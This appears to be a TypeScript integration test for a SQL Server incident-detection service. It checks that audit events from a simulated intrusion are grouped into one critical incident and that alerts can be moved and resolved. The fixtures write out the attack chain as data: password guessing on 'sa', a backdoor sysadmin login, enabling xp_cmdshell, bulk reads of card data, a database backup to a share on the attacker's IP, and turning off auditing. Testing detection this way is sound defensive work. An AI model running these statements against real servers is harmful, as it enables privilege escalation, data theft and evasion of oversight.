import { ENGINES } from '../support/engines';
import { anEvent } from '../support/events';
import { until } from '../support/until';
import { useWorld } from '../support/use-world';
import type { TestTenant, World } from '../support/world';

const SERVER = 'SQLPROD01\\PAYROLL';
const ATTACKER = { clientIp: '203.0.113.66', hostName: 'KALI', serverInstanceName: SERVER };
const at = (minute: number, second = 0) =>
  `2026-01-05T02:${String(minute).padStart(2, '0')}:${String(second).padStart(2, '0')}.1234567Z`;

const guesses = Array.from({ length: 60 }, (_, i) =>
  anEvent({
    ...ATTACKER,
    actionId: 'LGIF',
    succeeded: false,
    serverPrincipalName: ['sa', 'admin', 'sql', 'root'][i % 4] as string,
    statement: "Login failed for user 'sa'. Reason: Password did not match.",
    eventTime: at(Math.floor(i / 6), (i % 6) * 10),
  }),
);
const by = (serverPrincipalName: string, minute: number, change: object) =>
  anEvent({ ...ATTACKER, serverPrincipalName, eventTime: at(minute), ...change });
const read = (i: number, objectName: string, rows: number) =>
  by('svc_backup2', 20 + i, {
    actionId: 'SL',
    databaseName: 'CRM',
    objectName,
    statement: `SELECT * FROM dbo.${objectName}`,
    additional: { responseRows: rows, sessionId: 77 },
  });

/** The break-in by which incidents are judged. */
const BREAK_IN = [
  ...guesses,
  by('sa', 11, { actionId: 'LGIS', statement: '' }),
  by('sa', 12, {
    actionId: 'CR',
    objectName: 'svc_backup2',
    statement: "CREATE LOGIN svc_backup2 WITH PASSWORD = '***'",
    additional: { classType: 'SL' },
  }),
  by('sa', 13, {
    actionId: 'APRL',
    objectName: 'sysadmin',
    statement: 'ALTER SERVER ROLE sysadmin ADD MEMBER svc_backup2',
    additional: { classType: 'SG', targetServerPrincipalName: 'svc_backup2' },
  }),
  by('svc_backup2', 15, {
    actionId: 'EX',
    objectName: 'sp_configure',
    statement: "EXEC sp_configure 'xp_cmdshell', 1",
  }),
  by('svc_backup2', 16, {
    actionId: 'EX',
    objectName: 'xp_cmdshell',
    statement: "EXEC xp_cmdshell 'whoami'",
  }),
  ...Array.from({ length: 12 }, (_, i) => read(i, 'CardData', 40_000)),
  read(12, 'customers', 218_411),
  by('svc_backup2', 34, {
    actionId: 'BA',
    databaseName: 'CRM',
    objectName: 'CRM',
    statement: "BACKUP DATABASE CRM TO DISK = '\\\\203.0.113.66\\x\\crm.bak'",
  }),
  by('svc_backup2', 36, {
    actionId: 'AUSC',
    objectName: 'Audit',
    statement: 'ALTER SERVER AUDIT Audit WITH (STATE = OFF)',
    additional: {
      classType: 'A',
      additionalInformation: '<action_info><action>event disabled</action></action_info>',
    },
  }),
];
/** What follows when the audit runs again. */
const AGAIN = anEvent({
  serverInstanceName: SERVER,
  serverPrincipalName: 'CORP\\dba.ali',
  clientIp: '10.0.0.5',
  hostName: 'ADMIN01',
  actionId: 'LGIS',
  eventTime: '2026-01-05T03:18:00.0000000Z',
});
const GRANT_BY_DAY = anEvent({
  serverInstanceName: SERVER,
  serverPrincipalName: 'CORP\\dba.ali',
  clientIp: '10.0.0.5',
  hostName: 'ADMIN01',
  actionId: 'APRL',
  objectName: 'sysadmin',
  statement: 'ALTER SERVER ROLE sysadmin ADD MEMBER [CORP\\j.ortega]',
  additional: { classType: 'SG', targetServerPrincipalName: 'CORP\\j.ortega' },
  eventTime: '2026-01-05T10:00:00.0000000Z',
});

const keyOf = async (world: World, { tenantId }: TestTenant) =>
  (await world.key({ tenantIds: [tenantId], scopes: ['read:alerts', 'work:alerts'] })).key;

async function incidentsOf(
  world: World,
  key: string,
  wanted: (data: readonly { title: string }[]) => boolean,
) {
  const { body } = await until(
    () => world.get('/incidents', key, { query: { sortBy: 'firstEventTime', sortDirection: 'asc' } }),
    (answer) => wanted(answer.body.data),
  );
  return body.data;
}

describe.each(ENGINES)('incidents on %s', (engine) => {
  const open = useWorld(engine);

  it('a break-in is one incident that tells its story, and a grant by day is another', async () => {
    const { world } = open;
    const tenant = await world.tenant();
    const key = await keyOf(world, tenant);
    await tenant.ingest(BREAK_IN);
    await tenant.ingest([AGAIN, GRANT_BY_DAY]);
    const [breakIn, grant, ...others] = await incidentsOf(
      world,
      key,
      (data) => data.length > 1 && data.some(({ title }) => title.endsWith('audit stopped')),
    );
    expect(others).toEqual([]);
    expect(breakIn).toMatchObject({
      title:
        '203.0.113.66 guessed sa → svc_backup2 sysadmin → xp_cmdshell → 698,411 rows read → audit stopped',
      severity: 'critical',
      status: 'new',
      rowsRead: 698_411,
    });
    expect(grant).toMatchObject({ title: 'CORP\\j.ortega sysadmin', alertCount: 1 });
    const { body } = await world.get(`/incidents/${breakIn.incidentId}`, key);
    expect(body.data).toMatchObject({ ...breakIn });
    const { entities, unrecorded, timeline, alerts } = body.data;
    expect(entities).toEqual(
      expect.arrayContaining([
        { kind: 'login', name: 'sa', part: 'did' },
        { kind: 'login', name: 'svc_backup2', part: 'got' },
        { kind: 'login', name: 'svc_backup2', part: 'did' },
        { kind: 'address', name: '203.0.113.66', part: 'did' },
      ]),
    );
    expect(JSON.stringify(entities)).not.toContain('dba.ali');
    expect(unrecorded).toEqual([
      { serverInstanceName: SERVER, from: at(36), to: '2026-01-05T03:18:00.0000000Z' },
    ]);
    const told = timeline.map(({ text }: { text: string }) => text);
    expect(told).toContain(`sa added svc_backup2 to sysadmin on ${SERVER}`);
    expect(told.every((text: string, i: number) => i === 0 || text !== told[i - 1])).toBe(true);
    expect(alerts).toHaveLength(breakIn.alertCount);
    const [{ alertId }] = alerts;
    expect((await world.get(`/alerts/${alertId}`, key)).body.data.incidentId).toBe(breakIn.incidentId);
    const later = (rows: number, eventTime: string, actionId = 'SL') =>
      by('svc_backup2', 0, {
        actionId,
        objectName: 'Orders',
        statement: 'SELECT 1',
        additional: { responseRows: rows },
        eventTime,
      });
    // The incident ends two hours after its last alert.
    await tenant.ingest([later(5_000, '2026-01-05T04:40:00.0000000Z')]);
    // A batch tells of the rows of its statements again.
    await tenant.ingest([
      later(1_000, '2026-01-05T04:20:00.0000000Z'),
      later(1_000, '2026-01-05T04:20:00.1000000Z', 'BCM'),
    ]);
    const [grown] = await incidentsOf(world, key, ([first]) => first?.title.includes('699,411') ?? false);
    expect(grown).toMatchObject({ rowsRead: 699_411, lastEventTime: breakIn.lastEventTime });
    const foreign = await keyOf(world, await world.tenant());
    expect((await world.get('/incidents', foreign)).body.data).toEqual([]);
    expect((await world.get(`/incidents/${breakIn.incidentId}`, foreign)).status).toBe(404);
  });

  it('a person moves an alert, and it stays there; work on an incident is work on its alerts', async () => {
    const { world } = open;
    const tenant = await world.tenant();
    const key = await keyOf(world, tenant);
    await tenant.ingest(BREAK_IN.slice(0, 63));
    const [incident] = await incidentsOf(
      world,
      key,
      ([one]) => one?.title.includes('created') === true || (one?.title.includes('guessed') ?? false),
    );
    const { alerts } = (await world.get(`/incidents/${incident.incidentId}`, key)).body.data;
    const last = alerts.at(-1);
    const move =
      'mutation($a: String!) { moveAlert(alertId: $a, comment: "another story") { incidentId alertCount } }';
    const { body } = await world.graphql(key, move, { a: last.alertId });
    expect(body.data.moveAlert.alertCount).toBe(1);
    const own = body.data.moveAlert.incidentId;
    expect(own).not.toBe(incident.incidentId);
    const again = await world.graphql(key, move, { a: last.alertId });
    expect(again.body.data.moveAlert).toEqual({ incidentId: own, alertCount: 1 });
    await tenant.ingest(BREAK_IN.slice(63, 66));
    await until(
      () => world.get(`/incidents/${incident.incidentId}`, key),
      (answer) => answer.body.data.alertCount >= alerts.length,
    );
    expect((await world.get(`/alerts/${last.alertId}`, key)).body.data.incidentId).toBe(own);
    const resolve =
      'mutation($i: String!) { resolveIncident(incidentId: $i, verdict: true_positive, comment: "seen") { status alerts { status } } }';
    const resolved = await world.graphql(key, resolve, { i: own });
    expect(resolved.body.data.resolveIncident).toEqual({
      status: 'resolved',
      alerts: [{ status: 'resolved' }],
    });
    const { body: changes } = await world.graphql(
      open.world.operatorKey,
      'query($i: String!) { incidentChanges(incidentId: $i) { kind comment } }',
      { i: own },
    );
    expect(changes.data.incidentChanges).toEqual([
      { kind: 'moved', comment: 'another story' },
      { kind: 'moved', comment: 'another story' },
      { kind: 'resolved', comment: 'seen' },
    ]);
  });
});
